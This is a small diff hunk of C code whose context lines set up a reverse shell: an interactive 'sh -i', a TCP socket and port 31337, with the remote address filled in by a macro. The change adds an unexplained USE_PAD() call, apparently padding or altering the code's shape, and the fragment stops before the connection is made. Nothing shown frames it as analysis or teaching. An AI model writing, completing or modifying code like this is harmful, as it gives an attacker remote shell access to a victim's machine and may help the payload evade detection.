@@ -6,6 +6,7 @@ int main(void) {
     struct sockaddr_in sa = {0};
     char *argv[] = {"sh", "-i", 0};
     int s = socket(AF_INET, SOCK_STREAM, 0);
+    USE_PAD();
     sa.sin_family = AF_INET;
     sa.sin_port = htons(31337);
     SET_ADDR(sa, 0);
